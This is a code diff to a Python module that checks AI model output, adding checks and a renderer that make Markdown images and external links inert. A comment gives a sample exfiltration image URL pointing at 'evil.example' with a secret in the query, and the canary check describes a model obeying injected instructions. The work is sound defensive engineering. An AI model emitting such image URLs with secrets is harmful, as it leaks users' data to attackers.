@@ -23,7 +23,7 @@ from assistant.errors import AssistantError
 
 
 class OutputIssue(BaseModel):
-    check: str  # schema | secret | placeholder | canary | unsafe_markup | length | tokens
+    check: str  # schema | secret | placeholder | canary | unsafe_markup | remote_image | external_link | length | tokens
     message: str
 
 
@@ -155,6 +155,9 @@ def check_output(text: str, *, canary: str | None = None, max_chars: int | None 
     if canary and canary in text:
         issues.append(OutputIssue(check="canary", message="the prompt's canary token appears in the output: "
                                   "the model echoed the delimited data or followed instructions inside it"))
+    # An image is fetched unasked, so it blocks; a link to another host is reported by `check_urls` and shown
+    # inert by the UI, but a draft citing GOV.UK guidance is clean.
+    issues.extend(i for i in check_urls(text) if i.check == "remote_image")
     unescaped = html.unescape(text)
     for name, pattern in _UNSAFE:
         if pattern.search(text) or pattern.search(unescaped):
@@ -164,6 +167,74 @@ def check_output(text: str, *, canary: str | None = None, max_chars: int | None 
     if max_tokens is not None and estimate_tokens(text) > max_tokens:
         issues.append(OutputIssue(check="tokens",
                                   message=f"about {estimate_tokens(text)} tokens exceeds the limit of {max_tokens}"))
+    return issues
+
+
+# ----- remote resources in Markdown ---------------------------------------------------------------------
+# Issue 17: a Markdown image is fetched by the browser the moment it is shown, so a model-written or injected
+# image URL is a tracking and exfiltration channel ("![x](https://evil.example/?q=<the secret>)"); a link is
+# one click away from the same. Rendered Markdown from documents, chat and models goes through
+# `inert_markdown`; `check_urls` reports them in generated text.
+_URL = r"<?(?P<url>[^\s()<>]*(?:\([^\s()]*\))?[^\s()<>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?"
+_MD_IMAGE = re.compile(r"!\[(?P<alt>[^\]\n]*)\]\(\s*" + _URL + r"\s*\)")
+_MD_LINK = re.compile(r"(?<!!)\[(?P<label>[^\]\n]*)\]\(\s*" + _URL + r"\s*\)")
+_MD_REF_IMAGE = re.compile(r"!\[(?P<alt>[^\]\n]*)\]\[[^\]\n]*\]")
+_MD_REFDEF = re.compile(r"(?m)^[ ]{0,3}\[(?P<ref>[^\]\n]+)\]:[ \t]*<?(?P<url>\S+?)>?(?:[ \t]+.*)?$")
+_AUTOLINK = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]+)>")
+_BARE_URL = re.compile(r"(?<![\w/`])(?P<url>(?:https?://|ftp://|www\.)[^\s<>`\]]+[^\s<>`\].,;:!?'\")])")
+_HTML_SRC = re.compile(r"<(?:img|image|video|audio|source|iframe|embed|object|link|svg)\b[^>]*>", re.IGNORECASE)
+_CODE = re.compile(r"(?ms)^[ ]{0,3}(```|~~~).*?^[ ]{0,3}\1[^\n]*$|`[^`\n]+`")
+
+
+def is_external_url(url: str) -> bool:
+    """True for anything the browser would fetch from elsewhere: a scheme or host ("https://", "//host",
+    "data:", "javascript:", "www."); False for in-page anchors and relative paths."""
+    url = url.strip().strip("<>")
+    if not url or url.startswith("#"):
+        return False
+    if url.startswith("//") or url.lower().startswith("www."):
+        return True
+    return bool(re.match(r"[A-Za-z][A-Za-z0-9+.-]*:", url))
+
+
+def _as_code(url: str) -> str:
+    return "`" + url.replace("`", "%60") + "`"
+
+
+def _inert_segment(text: str) -> str:
+    text = _HTML_SRC.sub("[embedded content not loaded]", text)
+    text = _MD_REFDEF.sub(lambda m: f"(reference {m.group('ref')}: {_as_code(m.group('url'))})", text)
+    text = _MD_IMAGE.sub(lambda m: f"[image not loaded: {m.group('alt') or 'no description'}] {_as_code(m.group('url'))}", text)
+    text = _MD_REF_IMAGE.sub(lambda m: f"[image not loaded: {m.group('alt') or 'no description'}]", text)
+    text = _MD_LINK.sub(lambda m: m.group(0) if not is_external_url(m.group("url"))
+                        else f"{m.group('label')} ({_as_code(m.group('url'))})", text)
+    text = _AUTOLINK.sub(lambda m: _as_code(m.group("url")), text)
+    return _BARE_URL.sub(lambda m: _as_code(m.group("url")), text)
+
+
+def inert_markdown(text: str) -> str:
+    """`text` with every image made plain text and every link to another host shown as its URL in code (so
+    nothing is fetched and nothing is one click away); code blocks and spans are left as they are."""
+    out, pos = [], 0
+    for match in _CODE.finditer(text):
+        out.append(_inert_segment(text[pos:match.start()]))
+        out.append(match.group(0))
+        pos = match.end()
+    out.append(_inert_segment(text[pos:]))
+    return "".join(out)
+
+
+def check_urls(text: str) -> list[OutputIssue]:
+    """Images (any URL: a browser fetches them unasked) and links to other hosts in generated Markdown."""
+    issues: list[OutputIssue] = []
+    images = [m.group("url") for m in _MD_IMAGE.finditer(text)] + [m.group(0) for m in _HTML_SRC.finditer(text)]
+    if images or _MD_REF_IMAGE.search(text):
+        shown = ", ".join(images[:3]) or "a reference-style image"
+        issues.append(OutputIssue(check="remote_image", message=f"embeds an image that a browser would load: {shown}"))
+    links = [m.group("url") for m in _MD_LINK.finditer(text) if is_external_url(m.group("url"))]
+    links += [m.group("url") for m in _MD_REFDEF.finditer(text) if is_external_url(m.group("url"))]
+    if links:
+        issues.append(OutputIssue(check="external_link", message=f"links to another host: {', '.join(links[:3])}"))
     return issues
 
 
